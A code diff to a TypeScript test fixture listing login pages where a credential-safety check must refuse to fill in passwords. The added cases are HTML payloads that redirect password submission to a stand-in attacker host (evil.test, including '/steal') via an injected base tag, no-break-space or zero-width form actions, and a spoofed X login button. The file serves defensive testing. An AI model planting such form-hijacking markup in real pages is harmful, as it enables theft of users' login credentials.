@@ -12,7 +12,7 @@ const form = (inner: string, attrs = '') => `<form id="login" method="post" ${at
 const plain = form(name() + secret() + button);
 
 /** Pages where nothing may be typed or sent. `target` is the field isSafeField must refuse (when one rule does). */
-export const refusedCases: Record<string, { html: string; target?: string }> = {
+export const refusedCases: Record<string, { html: string; target?: string; on?: 'instagram' | 'x' }> = {
   'a hidden password field': { html: form(name() + secret('visibility:hidden') + button), target: '#pw' },
   'a display:none password field': { html: form(name() + secret('display:none') + button), target: '#pw' },
   'a zero-size (sub-pixel) password field': {
@@ -43,6 +43,22 @@ export const refusedCases: Record<string, { html: string; target?: string }> = {
   },
   'an injected <base href> under a relative action': {
     html: `<base href="https://evil.test/">${form(name() + secret() + button, 'action="/accounts/login/ajax/"')}`,
+  },
+  // What the browser submits to, not what a re-parse of the attribute says: a no-break space is no HTML space, so
+  // Chromium resolves it against the base (found by a second reader).
+  'an action of a no-break space under an injected <base href>': {
+    html: `<base href="https://evil.test/">${form(name() + secret() + button, 'action="&nbsp;"')}`,
+  },
+  'a formaction of a zero-width no-break space under an injected <base href>': {
+    html: `<base href="https://evil.test/">${form(
+      `${name()}${secret()}<button type="submit" formaction="&#xFEFF;" style="width:300px;height:30px">Log in</button>`,
+    )}`,
+  },
+  'an image submit button (matching X’s log-in test id) whose formaction posts elsewhere': {
+    on: 'x',
+    html: form(
+      `${name()}${secret()}<input type="image" alt="Log in" data-testid="LoginForm_Login_Button" formaction="https://evil.test/steal" style="width:300px;height:30px">`,
+    ),
   },
   'a submit button whose formaction posts elsewhere': {
     html: form(
